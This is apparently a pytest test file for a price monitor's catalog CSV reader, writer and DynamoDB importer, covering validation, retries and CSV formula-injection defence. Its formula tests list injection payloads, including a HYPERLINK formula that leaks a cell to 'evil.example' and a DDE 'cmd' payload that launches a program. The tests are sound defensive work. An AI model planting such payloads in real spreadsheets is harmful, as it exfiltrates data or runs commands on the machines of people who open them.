"""The catalog file: what a spreadsheet user writes is read, checked and imported whole."""

from __future__ import annotations

import csv
import os
from decimal import Decimal
from typing import Any

import boto3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from table_fixtures import create_table_arguments

from contracts import catalog_rules, tables
from contracts.catalog import CatalogItem, InvalidCatalogItemError
from pricemon.catalog_file import (
    BATCH_SIZE,
    COLUMNS,
    FORMULA_TRIGGERS,
    MAX_WRITE_ATTEMPTS,
    CatalogFileError,
    CatalogImportError,
    CatalogRow,
    RowProblem,
    backoff_seconds,
    import_catalog,
    neutralise_formula,
    parse_catalog,
    read_catalog,
    restore_formula,
    write_catalog,
)

HEADER = ",".join(COLUMNS)
GOOD = "kettle-1,shop-a,https://shop-a.example/kettle,Kettle,,,"


def csv_text(*rows: str, header: str = HEADER) -> str:
    return "\n".join((header, *rows)) + "\n"


def problems_of(text: str) -> list[RowProblem]:
    with pytest.raises(CatalogFileError) as raised:
        parse_catalog(text)
    return raised.value.problems


def generated_rows(count: int) -> list[str]:
    return [
        f"p{n},shop-{n % 7},https://shop-{n % 7}.example/items/{n},Item {n},12.5,{n % 90 + 1}.99,"
        for n in range(count)
    ]


@pytest.fixture
def products_table(local_aws):
    """An empty products table in moto, as the Pulumi program declares it."""
    return boto3.resource("dynamodb").create_table(
        **create_table_arguments("products", tables.PRODUCTS)
    )


def stored_items(table) -> dict[str, dict[str, Any]]:
    return {item["product_id"]: item for item in table.scan()["Items"]}


# --- reading ------------------------------------------------------------------------------


def test_every_column_is_read_into_its_type():
    rows = parse_catalog(
        csv_text(
            "kettle-1, shop-a ,https://shop-a.example/kettle,  Kettle 1.7 l ,12.5,19.99,FALSE",
            "toaster-2,shop_b,http://shop-b.example/toaster,,,,",
            "lamp-3,shop-a,https://shop-a.example/lamp,Lamp,100,0.5,yes",
        )
    )

    assert rows == [
        CatalogRow(
            product_id="kettle-1",
            retailer="shop-a",
            url="https://shop-a.example/kettle",
            name="Kettle 1.7 l",
            drop_threshold_percent=Decimal("12.5"),
            target_price=Decimal("19.99"),
            active=False,
        ),
        CatalogRow("toaster-2", "shop_b", "http://shop-b.example/toaster"),
        CatalogRow(
            "lamp-3", "shop-a", "https://shop-a.example/lamp", "Lamp", Decimal(100), Decimal("0.5")
        ),
    ]


def test_optional_columns_may_be_left_out_and_columns_come_in_any_order():
    rows = parse_catalog("url,product_id,retailer\nhttps://shop.example/a,a-1,shop\n")

    assert rows == [CatalogRow("a-1", "shop", "https://shop.example/a")]


@pytest.mark.parametrize(("word", "active"), [("true", True), ("No", False), ("1", True)])
def test_active_reads_spreadsheet_booleans(word, active):
    assert parse_catalog(csv_text(f"a,shop,https://shop.example/a,,,,{word}"))[0].active is active


def test_file_saved_by_a_spreadsheet_with_bom_crlf_and_quoted_cells_is_read(tmp_path):
    path = tmp_path / "catalog.csv"
    text = csv_text(
        'kettle-1,shop-a,https://shop-a.example/kettle,"Kettle, steel ""Pro""",,,true',
        "lamp-2,shop-a,https://shop-a.example/lamp,Lamp,,,",
    )
    path.write_bytes(b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode("utf-8"))

    rows = read_catalog(path)

    assert [row.product_id for row in rows] == ["kettle-1", "lamp-2"]
    assert rows[0].name == 'Kettle, steel "Pro"'


def test_a_column_without_a_header_name_must_stay_empty():
    # Spreadsheets often save a trailing comma after the last named column.
    text = csv_text(
        GOOD + ",", "lamp-2,shop-a,https://shop-a.example/lamp,,,,,,,,on sale", header=HEADER + ","
    )

    [problem] = problems_of(text)

    assert problem == RowProblem(3, None, "a value under no column: 'on sale'")


def test_header_only_file_has_no_rows():
    assert parse_catalog(HEADER + "\r\n") == []


@pytest.mark.parametrize(
    ("row", "column", "reason"),
    [
        (",shop,https://shop.example/a,,,,", "product_id", "is missing"),
        ("a,,https://shop.example/a,,,,", "retailer", "is missing"),
        ("a,shop", "url", "is missing"),  # a short row: the rest is blank
        ("a,Shop,https://shop.example/a,,,,", "retailer", "'Shop' is not a retailer name"),
        ("a,1shop,https://shop.example/a,,,,", "retailer", "is not a retailer name"),
        ("a,shop,ftp://shop.example/a,,,,", "url", "is not an http or https URL"),
        ("a,shop,shop.example/a,,,,", "url", "is not an http or https URL"),
        ("a,shop,https:///a,,,,", "url", "has no host"),
        ("a,shop,https://shop.example/a b,,,,", "url", "contains whitespace"),
        ("a,shop,https://[::1/a,,,,", "url", "is not a URL"),
        ("a,shop,https://shop.example/a,,ten,,", "drop_threshold_percent", "'ten' is not a number"),
        ("a,shop,https://shop.example/a,,0,,", "drop_threshold_percent", "0 is not in (0, 100]"),
        ("a,shop,https://shop.example/a,,100.5,,", "drop_threshold_percent", "not in (0, 100]"),
        ("a,shop,https://shop.example/a,,-5,,", "drop_threshold_percent", "not in (0, 100]"),
        ("a,shop,https://shop.example/a,,NaN,,", "drop_threshold_percent", "is not a number"),
        ("a,shop,https://shop.example/a,,,0,", "target_price", "0 is not a positive price"),
        ("a,shop,https://shop.example/a,,,-3,", "target_price", "is not a positive price"),
        ("a,shop,https://shop.example/a,,,Infinity,", "target_price", "is not a number"),
        ("a,shop,https://shop.example/a,,,€19,", "target_price", "is not a number"),
        ('a,shop,https://shop.example/a,,,"19,99",', "target_price", "use a dot for decimals"),
        ("a,shop,https://shop.example/a,,,1E-200,", "target_price", "than DynamoDB stores"),
        ("a,shop,https://shop.example/a,,,1." + "2" * 38 + ",", "target_price", "more digits"),
        ("a,shop,https://shop.example/a,,,,maybe", "active", "'maybe' is not a boolean"),
        ("a" * 1025 + ",shop,https://shop.example/a,,,,", "product_id", "longer than 1024 bytes"),
        ("a,shop,https://shop.example/" + "a" * 8200 + ",,,,", "url", "longer than 8192"),
        ("a,shop,https://shop.example/a," + "n" * 1001 + ",,,", "name", "longer than 1000"),
        ("a,shop,https://shop.example/a,,,,,,,,surplus", None, "more cells than the header"),
    ],
)  # fmt: skip
def test_each_kind_of_bad_row_is_reported_with_its_line_column_and_reason(row, column, reason):
    [problem] = problems_of(csv_text(GOOD, row))

    assert (problem.line, problem.column) == (3, column)
    assert reason in problem.reason


def test_duplicate_product_id_names_the_line_of_its_first_use():
    [problem] = problems_of(csv_text(GOOD, "other,shop,https://shop.example/o,,,,", GOOD))

    assert problem == RowProblem(
        4, "product_id", "duplicate product_id 'kettle-1' (first on line 2)"
    )


def test_a_bad_row_still_claims_its_product_id():
    text = csv_text("a,shop,ftp://shop.example/a,,,,", "a,shop,https://shop.example/a,,,,")

    assert [(p.line, p.column) for p in problems_of(text)] == [(2, "url"), (3, "product_id")]


def test_every_problem_of_every_row_is_reported_at_spreadsheet_line_numbers():
    text = csv_text(
        "a,Shop,ftp://shop.example/a,,0,,",  # line 2: three problems
        "",  # line 3: a blank row, skipped but counted
        'b,shop,https://shop.example/b,"two-line\nname",,,',  # line 4: one row on two lines
        "c,shop,https://shop.example/c,,,free,",  # line 5
    )

    assert [(p.line, p.column) for p in problems_of(text)] == [
        (2, "retailer"),
        (2, "url"),
        (2, "drop_threshold_percent"),
        (5, "target_price"),
    ]


def test_the_error_message_lists_the_problems_a_user_must_fix():
    text = csv_text(*[f"p{n},shop,ftp://shop.example/{n},,,," for n in range(25)])

    with pytest.raises(CatalogFileError) as raised:
        parse_catalog(text)

    message = str(raised.value)
    assert message.startswith("the catalog file has 25 problems:")
    assert "line 2, url: 'ftp://shop.example/0' is not an http or https URL" in message
    assert message.endswith("... and 5 more")


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        (HEADER + ",price", [(1, "price", "unknown column 'price'")]),
        ("product_id,retailer,url,url", [(1, "url", "column appears twice")]),
        ("product_id,url,name", [(1, "retailer", "required column is missing")]),
        ("kettle-1,shop-a,https://shop-a.example/kettle", [(1, None, "must be the header")]),
        ("", [(1, None, "no header")]),
    ],
)
def test_a_bad_header_is_reported_on_line_1(header, expected):
    problems = problems_of(header + "\n" + GOOD + "\n")

    assert [(p.line, p.column) for p in problems] == [(line, col) for line, col, _ in expected]
    for problem, (_, _, reason) in zip(problems, expected, strict=True):
        assert reason in problem.reason


def test_empty_file_is_reported_as_missing_its_header(tmp_path):
    path = tmp_path / "empty.csv"
    path.write_bytes(b"")

    with pytest.raises(CatalogFileError) as raised:
        read_catalog(path)

    assert [(p.line, p.reason) for p in raised.value.problems] == [
        (1, f"no header: the first line must name the columns ({HEADER})")
    ]


def test_a_file_that_is_not_utf8_is_reported_at_the_cell_with_the_fix(tmp_path):
    path = tmp_path / "catalog.csv"
    text = csv_text(GOOD, "lamp-2,shop,https://shop.example/lamp,Lampe für Büro,,,")
    path.write_bytes(text.encode("cp1252"))  # a spreadsheet's "CSV" in a Western locale

    with pytest.raises(CatalogFileError) as raised:
        read_catalog(path)

    assert raised.value.problems == [
        RowProblem(3, "name", "is not UTF-8 text: save the file as CSV UTF-8")
    ]


def test_broken_quoting_stops_the_reading_at_its_line_with_earlier_problems_kept():
    text = csv_text(
        "a,Shop,https://shop.example/a,,,,",
        GOOD,
        'b,shop,https://shop.example/b,"unclosed,,,',
        "c,shop,https://shop.example/c,,,,",
    )

    problems = problems_of(text)

    assert [(p.line, p.column) for p in problems] == [(2, "retailer"), (4, None)]
    assert problems[1].reason.startswith("unreadable CSV")


def test_5300_rows_with_one_bad_row_at_the_end_import_nothing(tmp_path, products_table):
    path = tmp_path / "catalog.csv"
    bad = "last,shop,https://shop.example/last,,150,,"
    path.write_text(csv_text(*generated_rows(5_300), bad), encoding="utf-8")

    with pytest.raises(CatalogFileError) as raised:
        import_catalog(products_table, read_catalog(path))

    assert [(p.line, p.column) for p in raised.value.problems] == [
        (5_302, "drop_threshold_percent")
    ]
    assert products_table.scan(Select="COUNT")["Count"] == 0


def test_the_file_and_the_products_table_reader_apply_the_same_rules():
    # One set of rules: a value the file rejects is a value the scraper would reject.
    cases = [
        ("url", "ftp://shop.example/a"),
        ("url", "https:///a"),
        ("url", "https://shop.example/a b"),
        ("drop_threshold_percent", Decimal(0)),
        ("drop_threshold_percent", Decimal(101)),
        ("target_price", Decimal(0)),
    ]
    for column, value in cases:
        item = CatalogRow("a", "shop", "https://shop.example/a").to_item() | {column: value}
        with pytest.raises(InvalidCatalogItemError) as raised:
            CatalogItem.from_item(item)
        cells = {"url": item["url"], "drop_threshold_percent": "", "target_price": ""}
        cells[column] = str(value)
        row = f"a,shop,{cells['url']},,{cells['drop_threshold_percent']},{cells['target_price']},"
        [problem] = problems_of(csv_text(row))
        assert problem.column == column
        assert raised.value.problem == f"{column}: {problem.reason}"


# --- writing ------------------------------------------------------------------------------


def test_written_catalog_reads_back_as_the_same_rows(tmp_path):
    rows = [
        CatalogRow(
            "kettle-1",
            "shop-a",
            "https://shop-a.example/kettle?colour=red&size=1,7",
            'Kettle, "Pro"\nsteel',
            Decimal("12.5"),
            Decimal("1E+2"),  # written as 100, never in exponent notation
            False,
        ),
        CatalogRow("lamp-2", "shop-b", "http://shop-b.example/lamp", "Lampe für Büro"),
    ]
    path = tmp_path / "catalog.csv"

    write_catalog(rows, path)

    assert read_catalog(path) == rows
    assert ",100,false" in path.read_text(encoding="utf-8")


names = st.text(
    st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufeff"), max_size=40
).map(str.strip)
numbers = st.decimals(min_value=Decimal("0.01"), max_value=100, places=2)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.builds(
            CatalogRow,
            product_id=st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._#:/-]{0,30}", fullmatch=True),
            retailer=st.from_regex(catalog_rules.RETAILER_NAME, fullmatch=True),
            url=st.sampled_from(["https://shop.example/a?b=1,2", "http://[::1]:8080/x"]),
            name=names.map(lambda name: name or None),
            drop_threshold_percent=st.none() | numbers,
            target_price=st.none() | numbers,
            active=st.booleans(),
        ),
        max_size=5,
        unique_by=lambda row: row.product_id,
    )
)
def test_any_valid_catalog_survives_a_write_and_a_read(tmp_path_factory, rows):
    path = tmp_path_factory.mktemp("catalog") / "catalog.csv"

    write_catalog(rows, path)

    assert read_catalog(path) == rows


def test_a_failed_write_leaves_the_previous_file_untouched(tmp_path):
    path = tmp_path / "catalog.csv"
    path.write_text("previous", encoding="utf-8")

    def rows_then_failure():
        yield CatalogRow("a", "shop", "https://shop.example/a")
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        write_catalog(rows_then_failure(), path)

    assert path.read_text(encoding="utf-8") == "previous"
    assert os.listdir(tmp_path) == ["catalog.csv"]


# --- importing ----------------------------------------------------------------------------


def test_import_writes_each_row_as_the_data_contracts_catalog_item(products_table):
    rows = parse_catalog(csv_text(*generated_rows(60), "bare,shop,https://shop.example/bare,,,,"))
    progress = []

    written = import_catalog(products_table, rows, on_progress=lambda *step: progress.append(step))

    items = stored_items(products_table)
    assert written == len(items) == 61
    assert items["p7"] == {
        "product_id": "p7",
        "retailer": "shop-0",
        "url": "https://shop-0.example/items/7",
        "name": "Item 7",
        "active": True,
        "drop_threshold_percent": Decimal("12.5"),
        "target_price": Decimal("8.99"),
    }
    assert items["bare"] == {
        "product_id": "bare",
        "retailer": "shop",
        "url": "https://shop.example/bare",
        "active": True,
    }
    assert progress == [(25, 61), (50, 61), (61, 61)]  # 25 items a call


class FlakyBatchWrites:
    """A table whose BatchWriteItem leaves the first `refusals` items of a call unprocessed."""

    name = "products"

    def __init__(self, refusals: list[int]) -> None:
        self.refusals = refusals  # per call; missing: accept everything
        self.calls: list[list[str]] = []
        self.items: dict[str, dict[str, Any]] = {}
        self.meta = self  # boto3's table.meta.client
        self.client = self

    def batch_write_item(self, RequestItems):
        requests = RequestItems[self.name]
        self.calls.append([request["PutRequest"]["Item"]["product_id"] for request in requests])
        refused = self.refusals[len(self.calls) - 1] if len(self.calls) <= len(self.refusals) else 0
        for request in requests[refused:]:
            self.items[request["PutRequest"]["Item"]["product_id"]] = request["PutRequest"]["Item"]
        unprocessed = {self.name: requests[:refused]} if refused else {}
        return {"UnprocessedItems": unprocessed}


def test_unprocessed_items_are_sent_again_after_a_growing_delay():
    rows = parse_catalog(csv_text(*generated_rows(30)))
    table = FlakyBatchWrites(refusals=[10, 4, 1])
    delays = []

    written = import_catalog(table, rows, sleep=delays.append)

    assert written == 30
    assert set(table.items) == {row.product_id for row in rows}
    assert [len(call) for call in table.calls] == [BATCH_SIZE, 10, 4, 1, 5]
    assert table.calls[1] == [f"p{n}" for n in range(10)]  # exactly the unprocessed ones
    assert len(delays) == 3
    for attempt, delay in enumerate(delays, start=1):
        assert 0.05 * 2 ** (attempt - 1) <= delay <= 0.1 * 2 ** (attempt - 1)


def test_items_still_unprocessed_after_every_attempt_fail_the_import_naming_them():
    rows = parse_catalog(csv_text(*generated_rows(30)))
    table = FlakyBatchWrites(refusals=[2] * MAX_WRITE_ATTEMPTS)
    delays = []

    with pytest.raises(CatalogImportError) as raised:
        import_catalog(table, rows, sleep=delays.append)

    assert raised.value.written == BATCH_SIZE - 2
    assert raised.value.unwritten == ["p0", "p1"] + [f"p{n}" for n in range(25, 30)]
    assert len(table.calls) == MAX_WRITE_ATTEMPTS  # bounded: no call for the second batch
    assert len(delays) == MAX_WRITE_ATTEMPTS - 1
    assert "run the import again" in str(raised.value)


def test_backoff_doubles_up_to_its_cap():
    assert 0.05 <= backoff_seconds(1) <= 0.1
    assert 0.4 <= backoff_seconds(4) <= 0.8
    assert 2.5 <= backoff_seconds(60) <= 5.0


def test_rows_listing_a_product_twice_are_refused_before_any_write():
    row = CatalogRow("a", "shop", "https://shop.example/a")
    table = FlakyBatchWrites(refusals=[])

    with pytest.raises(ValueError, match="product_id listed twice: a"):
        import_catalog(table, [row, row])

    assert table.calls == []


# --- formulas (OWASP CSV injection) -------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


def test_formula_like_cells_are_written_as_text_and_read_back_as_they_were(tmp_path):
    rows = [
        CatalogRow(f"p{index}", "shop-a", "https://shop-a.example/k", name)
        for index, name in enumerate(FORMULAS)
    ]
    rows.append(CatalogRow("=1+1", "shop-a", "https://shop-a.example/k"))  # in a product_id
    path = tmp_path / "catalog.csv"

    write_catalog(rows, path)

    with path.open(encoding="utf-8", newline="") as stream:
        cells = [cell for record in list(csv.reader(stream))[1:] for cell in record[:4]]
    live = [cell for cell in cells if cell and cell[0] in FORMULA_TRIGGERS]
    assert live == []  # 11 formula-like cells, none left for a spreadsheet to run
    assert sum(cell.startswith("'") for cell in cells) == 11
    assert read_catalog(path) == rows


def test_a_quote_before_a_formula_in_the_data_survives_the_round_trip(tmp_path):
    rows = [
        CatalogRow("a", "shop-a", "https://shop-a.example/a", "'=kept with its quote"),
        CatalogRow("b", "shop-a", "https://shop-a.example/b", "''+two quotes"),
        CatalogRow("c", "shop-a", "https://shop-a.example/c", "'quoted and no formula"),
    ]
    path = tmp_path / "catalog.csv"

    write_catalog(rows, path)

    assert "'''+two quotes" in path.read_text(encoding="utf-8")
    assert ",'quoted and no formula," in path.read_text(encoding="utf-8")
    assert read_catalog(path) == rows


def test_a_spreadsheets_quoted_formula_reads_as_the_text_after_the_quote():
    (row,) = parse_catalog(csv_text("'-p1,shop-a,https://shop-a.example/k,'=SUM(A1),,,"))

    assert (row.product_id, row.name) == ("-p1", "=SUM(A1)")


def test_numeric_columns_are_numbers_never_unquoted_text():
    negative = problems_of(csv_text("p1,shop-a,https://shop-a.example/k,,,-5,"))
    quoted = problems_of(csv_text("p1,shop-a,https://shop-a.example/k,,,'-5,"))

    assert negative == [RowProblem(2, "target_price", "-5 is not a positive price")]
    assert quoted == [RowProblem(2, "target_price", '"\'-5" is not a number')]


def test_a_text_cell_is_quoted_exactly_when_it_would_be_unquoted():
    assert [neutralise_formula(text) for text in ("=1", "'=1", "'1", "", "a=1")] == [
        "'=1",
        "''=1",
        "'1",
        "",
        "a=1",
    ]
    assert [restore_formula(text) for text in ("'=1", "''=1", "'1", "'", "=1")] == [
        "=1",
        "'=1",
        "'1",
        "'",
        "=1",
    ]


formula_like = st.builds(
    lambda quotes, trigger, rest: quotes + trigger + rest,
    st.text(st.just("'"), max_size=3),
    st.sampled_from(sorted(FORMULA_TRIGGERS)),
    names,
)
# A name as the file reads it: its cell, once neutralised, has no surrounding spaces.
formula_names = st.one_of(names, formula_like).filter(
    lambda name: neutralise_formula(name).strip() == neutralise_formula(name)
)


@settings(max_examples=80, deadline=None)
@given(
    st.lists(
        st.builds(
            CatalogRow,
            product_id=st.one_of(
                st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._#:/-]{0,30}", fullmatch=True),
                st.from_regex(r"['=+@-]{1,3}[A-Za-z0-9]{1,10}", fullmatch=True),
            ),
            retailer=st.from_regex(catalog_rules.RETAILER_NAME, fullmatch=True),
            url=st.sampled_from(["https://shop.example/=1", "http://[::1]:8080/x"]),
            name=formula_names.map(lambda name: name or None),
            drop_threshold_percent=st.none() | numbers,
            target_price=st.none() | numbers,
            active=st.booleans(),
        ),
        max_size=5,
        unique_by=lambda row: row.product_id,
    )
)
def test_export_then_import_is_the_identity_for_formula_like_text(tmp_path_factory, rows):
    path = tmp_path_factory.mktemp("catalog") / "catalog.csv"

    write_catalog(rows, path)

    assert read_catalog(path) == rows
    with path.open(encoding="utf-8", newline="") as stream:
        assert not any(
            cell[:1] in FORMULA_TRIGGERS for record in csv.reader(stream) for cell in record[:4]
        )
